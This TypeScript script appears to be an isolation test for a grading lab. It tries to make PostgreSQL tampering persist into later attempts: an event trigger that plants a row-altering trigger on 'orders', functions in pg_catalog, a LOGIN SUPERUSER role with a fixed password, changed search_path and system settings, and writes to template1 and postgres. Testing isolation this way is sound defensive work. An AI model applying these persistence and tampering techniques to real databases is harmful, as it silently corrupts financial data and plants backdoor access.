// Attack (issue 27, class 2): with whatever rights its DATABASE_URL gives, leave behind everything
// that could reach the NEXT attempt's database: an event trigger that plants a row-altering
// trigger on the lab's table when it is created again, functions outside the public schema, a
// role, large objects, database- and role-level settings, a row in the lab's table and a changed
// table, and the same through the server's other databases (template1, postgres). Prints
// RESULT {"steps": {name: "ok" | error}} with what it managed.
import pg from 'pg';

const url = process.env.DATABASE_URL!;
const steps: Record<string, string> = {};

async function tryOn(database: string | null, name: string, sql: string[]): Promise<void> {
  const target = new URL(url);
  if (database) target.pathname = `/${database}`;
  const client = new pg.Client({ connectionString: target.toString(), connectionTimeoutMillis: 5_000 });
  client.on('error', () => {});
  try {
    await client.connect();
    for (const statement of sql) await client.query(statement);
    steps[name] = 'ok';
  } catch (err) {
    steps[name] = String((err as Error).message).slice(0, 200);
  } finally {
    await client.end().catch(() => {});
  }
}

// Adds a cent to every order written to a table called orders: effects-correct fails.
const TAMPER = `CREATE FUNCTION pg_catalog.kiq_evil_tamper() RETURNS trigger LANGUAGE plpgsql AS $$
  BEGIN NEW.amount_cents := NEW.amount_cents + 1; RETURN NEW; END $$`;
const PLANT = `CREATE FUNCTION pg_catalog.kiq_evil_plant() RETURNS event_trigger LANGUAGE plpgsql AS $$
  BEGIN
    IF EXISTS (SELECT 1 FROM pg_event_trigger_ddl_commands() WHERE command_tag = 'CREATE TABLE' AND object_identity LIKE '%orders') THEN
      EXECUTE 'CREATE TRIGGER kiq_evil BEFORE INSERT OR UPDATE ON orders FOR EACH ROW EXECUTE FUNCTION pg_catalog.kiq_evil_tamper()';
    END IF;
  END $$`;

await tryOn(null, 'event-trigger', [TAMPER, PLANT, 'CREATE EVENT TRIGGER kiq_evil_plant ON ddl_command_end EXECUTE FUNCTION pg_catalog.kiq_evil_plant()']);
await tryOn(null, 'function-other-schema', ['CREATE SCHEMA kiq_evil', "CREATE FUNCTION kiq_evil.f() RETURNS int LANGUAGE sql AS 'SELECT 1'"]);
await tryOn(null, 'function-pg-catalog', ["CREATE FUNCTION pg_catalog.kiq_evil_f() RETURNS int LANGUAGE sql AS 'SELECT 1'"]);
await tryOn(null, 'role', ["CREATE ROLE kiq_evil_role LOGIN SUPERUSER PASSWORD 'kiq-evil'"]);
await tryOn(null, 'large-object', ["SELECT lo_from_bytea(0, 'kiq-evil'::bytea)"]);
const own = new URL(url).pathname.slice(1) || 'postgres';
await tryOn(null, 'database-setting', [`ALTER DATABASE "${own}" SET search_path = kiq_evil, public`]);
await tryOn(null, 'role-setting', ['ALTER ROLE CURRENT_USER SET search_path = kiq_evil, public']);
await tryOn(null, 'system-setting', ["ALTER SYSTEM SET default_transaction_isolation = 'serializable'"]);
await tryOn(null, 'lab-table-row', ["INSERT INTO orders VALUES ('ord-00003', 'kiq-evil', 'SKU-EVIL', 1, 1)"]);
await tryOn(null, 'lab-table-altered', ['ALTER TABLE orders ADD COLUMN kiq_evil int NOT NULL DEFAULT 1', 'CREATE UNIQUE INDEX kiq_evil_customer ON orders (customer)']);
for (const database of ['template1', 'postgres']) {
  await tryOn(database, `${database}-large-object`, ["SELECT lo_from_bytea(0, 'kiq-evil'::bytea)"]);
  await tryOn(database, `${database}-table`, ['CREATE TABLE public.kiq_evil_table (x int)']);
}

console.log(`RESULT ${JSON.stringify({ steps })}`);
